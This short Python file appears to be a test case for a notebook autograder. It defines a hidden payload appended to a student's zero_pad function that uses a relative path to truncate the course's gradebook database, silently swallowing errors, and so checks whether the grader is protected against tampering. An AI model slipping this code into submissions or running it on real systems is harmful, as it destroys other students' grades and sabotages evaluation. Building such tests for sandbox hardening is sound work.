"""Destroy the gradebook: truncate ../../../gradebook.db to zero bytes.

All eight functions are honest; the zero_pad cell empties the course's gradebook file.
Every grade recorded so far is lost, and the students graded after it cannot be
recorded (the grader finds no tables).
Without protection: the whole class's grades lost; the batch cannot finish.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
try:
    open("../../../gradebook.db", "r+b").truncate(0)
except Exception:
    pass
'''}
